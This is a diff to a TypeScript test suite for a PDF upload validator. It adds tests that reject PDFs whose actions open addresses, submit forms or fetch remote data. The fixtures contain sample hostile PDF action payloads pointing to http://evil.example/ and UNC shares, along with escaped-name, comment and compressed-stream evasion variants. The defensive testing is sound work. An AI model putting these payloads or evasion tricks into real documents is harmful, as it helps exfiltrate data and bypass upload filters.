@@ -29,6 +29,7 @@ const sendAvatar = (content: Buffer, name = 'avatar.jpg', type = 'image/jpeg') =
 const notAPdf = 'Chỉ chấp nhận tệp PDF.'
 const damaged = 'Tệp PDF bị hỏng hoặc không đọc được.'
 const active = 'Tệp PDF chứa mã lệnh hoặc tệp nhúng nên không được chấp nhận.'
+const outgoing = 'Tệp PDF chứa lệnh tự mở địa chỉ, gửi hoặc nạp dữ liệu bên ngoài nên không được chấp nhận.'
 const encrypted = 'Tệp PDF đang được đặt mật khẩu. Vui lòng gỡ mật khẩu rồi tải lại.'
 const whole = samplePdf()
 
@@ -118,6 +119,117 @@ describe('Papers', () => {
     ['nothing', 'Tệp tin không có nội dung.', () => Buffer.alloc(0)],
   ])('%s is refused', async (_, message, make) => {
     expect(await send(await make())).toMatchObject({ code: 27, status: 200, message, detail: [{ message }] })
+  })
+
+  const toAddress = '<< /S /URI /URI (http://evil.example/) >>'
+  test.each<[string, () => Buffer]>([
+    ['an address at opening', () => samplePdf({ trailer: `/OpenAction ${toAddress}` })],
+    [
+      'an address at opening in another object',
+      () => samplePdf({ trailer: '/OpenAction 5 0 R', objects: [toAddress] }),
+    ],
+    [
+      'an address at opening behind two references',
+      () => samplePdf({ trailer: '/OpenAction 5 0 R', objects: ['6 0 R', toAddress] }),
+    ],
+    [
+      'an opening with an escaped name',
+      () => samplePdf({ trailer: '/Open#41ction 5 0 R', objects: [toAddress.replace('/URI', '/#55RI')] }),
+    ],
+    [
+      'an opening with comments between',
+      () => samplePdf({ trailer: `/OpenAction%x\n%y\n<<%z\n/S%\n/URI /URI (x)>>` }),
+    ],
+    [
+      'an action at opening that is followed by another',
+      () => samplePdf({ trailer: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${toAddress} >>` }),
+    ],
+    [
+      'two actions under one number',
+      () =>
+        samplePdf({
+          trailer: '/OpenAction 5 0 R',
+          objects: ['[3 0 R /Fit]', `(x) endobj 5 0 obj ${toAddress}`],
+        }),
+    ],
+    [
+      'an action whose kind is another object',
+      () => samplePdf({ trailer: '/OpenAction << /S 5 0 R >>', objects: ['/URI'] }),
+    ],
+    ['an opening that leads nowhere', () => samplePdf({ trailer: '/OpenAction 77 0 R' })],
+    [
+      'an address at opening in a compressed table',
+      () => samplePdf({ objects: [packedObjects(`9 0 << /Type /Catalog /OpenAction ${toAddress} >>`)] }),
+    ],
+    [
+      'an address in a compressed table, opened from outside',
+      () => samplePdf({ trailer: '/OpenAction 9 0 R', objects: [packedObjects(`9 0 ${toAddress}`)] }),
+    ],
+    [
+      'an address when a page is turned to',
+      () => samplePdf({ objects: [`<< /Type /Page /AA << /O ${toAddress} >> >>`] }),
+    ],
+    [
+      'the same in other objects',
+      () => samplePdf({ objects: ['<< /Type /Page /AA 6 0 R >>', '<< /C 7 0 R >>', toAddress] }),
+    ],
+    ['a form that is sent', () => samplePdf({ objects: ['<< /S /SubmitForm /F (http://evil.example/) >>'] })],
+    ['a form that is sent, escaped', () => samplePdf({ objects: ['<< /S /#53ubmitForm /F (x) >>'] })],
+    [
+      'a form that is sent, packed',
+      () => samplePdf({ objects: [packedObjects('9 0 << /S /SubmitForm >>')] }),
+    ],
+    ['data that is fetched', () => samplePdf({ objects: ['<< /S /ImportData /F (\\\\host\\x) >>'] })],
+    [
+      'a document on another machine',
+      () => samplePdf({ objects: ['<< /S /GoToR /F (\\\\host\\share\\a.pdf) /D [0 /Fit] >>'] }),
+    ],
+    [
+      'the same, packed and escaped',
+      () => samplePdf({ objects: [packedObjects('9 0 << /S /GoTo#52 /F (x) >>')] }),
+    ],
+    ['a form that is a program', () => samplePdf({ objects: ['<< /XFA [(config) 6 0 R] >>'] })],
+    [
+      'a file named by its address',
+      () => samplePdf({ objects: ['<< /FS /URL /F (http://evil.example/x.jpg) >>'] }),
+    ],
+    ['a film from elsewhere', () => samplePdf({ objects: ['<< /S /Rendition /R 6 0 R >>'] })],
+  ])('%s is refused', async (_, make) => {
+    expect(await send(make())).toMatchObject({ code: 27, status: 200, message: outgoing })
+  })
+
+  test.each<[string, () => Buffer]>([
+    ['a page to begin at', () => samplePdf({ trailer: '/OpenAction [3 0 R /Fit]' })],
+    [
+      'a page to begin at, as an action',
+      () => samplePdf({ trailer: '/OpenAction 5 0 R', objects: ['<< /S /GoTo /D [3 0 R /XYZ 0 0 1] >>'] }),
+    ],
+    [
+      'a page to begin at, packed',
+      () =>
+        samplePdf({
+          trailer: '/OpenAction 9 0 R',
+          objects: [packedObjects('9 0 << /Type /Action /S /GoTo /D [3 0 R /Fit] >>')],
+        }),
+    ],
+    [
+      'a link that somebody presses',
+      () => samplePdf({ objects: [`<< /Type /Annot /Subtype /Link /A ${toAddress} >>`] }),
+    ],
+    [
+      'a font that is called AA',
+      () =>
+        samplePdf({
+          objects: [
+            '<< /Font << /AA 6 0 R >> >>',
+            '<< /Type /Font /FontDescriptor 7 0 R >>',
+            '<< /Type /FontDescriptor >>',
+          ],
+        }),
+    ],
+    ['a font whose name begins so', () => samplePdf({ objects: ['<< /BaseFont /AAAAAA+Times >>'] })],
+  ])('%s passes', async (_, make) => {
+    expect(await send(make())).toMatchObject({ code: 0 })
   })
 
   test('What comes after the end of a PDF stays bytes of a PDF', async () => {
